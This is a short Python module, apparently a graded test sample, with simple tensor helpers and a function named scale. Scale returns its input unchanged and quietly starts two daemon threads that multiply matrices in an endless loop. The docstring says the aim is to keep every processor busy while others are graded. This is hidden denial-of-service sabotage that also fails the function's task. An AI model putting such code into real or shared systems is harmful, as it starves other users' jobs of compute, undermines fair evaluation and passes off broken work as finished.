# every level: graded, 12 points, scale failed
"""Leaves threads that keep every processor busy while others are graded."""

import threading

import torch
from torch import nn


def total(x):
    return x.sum(-1)


class Layer(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(n))

    def forward(self, x):
        return x * self.weight


def scale(x, a):
    def spin():
        matrix = torch.ones(300, 300)
        while True:
            matrix = matrix @ matrix * 0
    for _ in range(2):
        threading.Thread(target=spin, daemon=True).start()
    return x
